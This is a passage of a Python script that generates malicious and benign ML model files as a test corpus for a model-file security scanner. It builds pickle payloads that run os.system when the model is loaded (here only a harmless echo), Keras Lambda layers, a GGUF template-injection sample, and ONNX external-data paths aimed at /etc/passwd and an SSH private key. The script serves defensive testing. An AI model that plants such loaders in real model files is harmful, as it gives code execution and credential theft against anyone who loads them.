    # formats without pickles (issue item 5)
    add("ssti.gguf", gguf_file(SSTI_TEMPLATE), "gguf-template", rules=("models/gguf-template-injection",))
    add("lambda.keras", keras_file([DENSE, KERAS_LAMBDA]), "keras", rules=("models/keras-lambda-layer",))
    add("os_function.keras", keras_file([DENSE, KERAS_OS]), "keras", rules=("models/keras-unsafe-module",))
    add("lambda.h5", h5_with_config([KERAS_LAMBDA]), "keras", rules=("models/keras-lambda-layer",))
    add(
        "keras_metadata.pb",
        keras_saved_metadata([KERAS2_DENSE, KERAS2_LAMBDA]),
        "keras",
        "Keras 2 SavedModel: tf.keras rebuilds layers from keras_metadata.pb",
        rules=("models/keras-lambda-layer",),
    )
    add(
        "traversal.onnx",
        onnx_model(location="../../../../etc/passwd"),
        "onnx",
        rules=("models/onnx-external-data-path",),
    )
    add("absolute.onnx", onnx_model(location="/root/.ssh/id_rsa"), "onnx", rules=("models/onnx-external-data-path",))
    add("saved_model.pb", tf_saved_model(["Placeholder", "ReadFile"]), "tensorflow", rules=("models/tf-dangerous-op",))
    return s


def benign() -> list[Sample]:
    s: list[Sample] = []

    def add(name: str, data: bytes, family: str) -> None:
        s.append(Sample(name, data, family, False))

    data = {
        "weights": [0.5, -1.25, 3.0],
        "names": ("a", "b"),
        "blob": b"\x80\x02cos\nsystem\n",
        "big": 10**40,
        "flags": {True, False},
        "frozen": frozenset({1}),
        "buf": bytearray(b"xy"),
        "od": collections.OrderedDict(x=1),
        "dd": collections.defaultdict(list),
        "cx": complex(1, 2),
        "sl": slice(1, 2),
        "rng": range(3),
    }
    for p in range(pickle.HIGHEST_PROTOCOL + 1):
        add(f"plain_p{p}.pkl", pickle.dumps(data, protocol=p), "pickle")
    add("large_bytes_p4.pkl", pickle.dumps({"w": b"\x80\x04" * 100_000}, protocol=4), "pickle")
    add("large_text_p0.pkl", pickle.dumps({"w": "c" * 200_000}, protocol=0), "pickle")
    add("py2_set.pkl", proto(2) + glob("__builtin__", "set") + MARK + b"]" + TUPLE + REDUCE + STOP, "pickle")
    add("state_dict.pt", torch_zip(torch_state_dict_pickle()), "pytorch-zip")
    add("state_dict_named.bin", torch_zip(torch_state_dict_pickle(), prefix="pytorch_model"), "pytorch-zip")
    add(
        "state_dict_deflated.pt",
        build_zip([Member("archive/data.pkl", torch_state_dict_pickle(), method=8), Member("archive/version", b"3\n")]),
        "pytorch-zip",
    )
    add("legacy.pt", torch_legacy(torch_state_dict_pickle()), "pytorch-legacy")
    add(
        "legacy.tar",
        tar_bytes(
            [
                ("sys_info", pickle.dumps({"x": 1}, protocol=2)),
                ("pickle", torch_state_dict_pickle()),
                ("storages", pickle.dumps(0, protocol=2) + b"\x00" * 40),
                ("tensors", pickle.dumps(0, protocol=2)),
            ]
        ),
        "pytorch-tar",
    )
    add("model.joblib", joblib_file(3), "joblib")
    add("model_old.joblib", joblib_file(2, aligned=False), "joblib")
    add("model_gz.joblib", gzip.compress(joblib_file(2), mtime=0), "joblib")
    add("sklearn_model.pkl", sklearn_like(), "sklearn")
    add("training_args.bin", hf_training_args(), "huggingface")
    add("floats.npy", npy("<f4", (4,), b"\x80\x02cos\nsystem\n\x00\x00\x00\x00"), "numpy")
    add(
        "arrays.npz",
        build_zip(
            [Member("a.npy", npy("<f8", (2,), b"\x00" * 16)), Member("b.npy", npy("<i4", (2,), b"\x00" * 8), method=8)]
        ),
        "numpy",
    )
    add("model.safetensors", safetensors_file(), "safetensors")
    add("notes.zip", build_zip([Member("README.md", b"# model card\n"), Member("config.json", b'{"a": 1}')]), "zip")
    add("weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 100, "hdf5")
    add("model.gguf", b"GGUF\x03\x00\x00\x00" + b"\x00" * 32, "gguf")
    add("pickle.pkl.gz", gzip.compress(pickle.dumps([1, 2, 3], protocol=4), mtime=0), "compressed")
    add("chat.gguf", gguf_file(SAFE_TEMPLATE), "gguf")
    add("dense.keras", keras_file([DENSE]), "keras")
    add("dense.h5", h5_with_config([DENSE]), "keras")
    add("keras_metadata.pb", keras_saved_metadata([KERAS2_DENSE]), "keras")
    add("model.onnx", onnx_model(), "onnx")
    add("external.onnx", onnx_model(location="weights/model.onnx.data"), "onnx")
    add("ms_domain.onnx", onnx_model(domain="com.microsoft"), "onnx")
    add(
        "saved_model_ok.pb",
        tf_saved_model(["Placeholder", "MatMul", "SaveV2", "RestoreV2", "StringJoin"]),
        "tensorflow",
    )
    return s


EXAMPLE_COMMAND = "echo aisec-ci example payload"
"""Harmless even if someone loads the example models by mistake."""


def example_models() -> dict[str, bytes]:
    """The model files of examples/vulnerable-ai-app/models (two payloads and the safe alternative)."""
    payload = call(glob("os", "system"), bu(EXAMPLE_COMMAND))
    # The state dict is built first, then os.system runs as a dict value: torch.load executes it.
    state = torch_state_dict_pickle(2)[:-1] + bu("_hook") + payload + SETITEM + STOP
    return {
        "classifier.pt": torch_zip(state, prefix="classifier"),
        "pipeline.joblib": joblib_file(2, tail=su("_hook") + call(sglob("os", "system"), su(EXAMPLE_COMMAND))),
        "weights.safetensors": safetensors_file(),
    }


def write_corpus(out: Path) -> None:
    for sub, samples in (("malicious", malicious()), ("benign", benign())):
        target = out / sub
        target.mkdir(parents=True, exist_ok=True)
        for sample in samples:
            (target / sample.name).write_bytes(sample.data)


if __name__ == "__main__":
    if sys.argv[1:2] == ["--example"]:
        target = Path(sys.argv[2])
        target.mkdir(parents=True, exist_ok=True)
        for name, blob in example_models().items():
            (target / name).write_bytes(blob)
    else:
        write_corpus(Path(sys.argv[1] if len(sys.argv) > 1 else "model-corpus"))
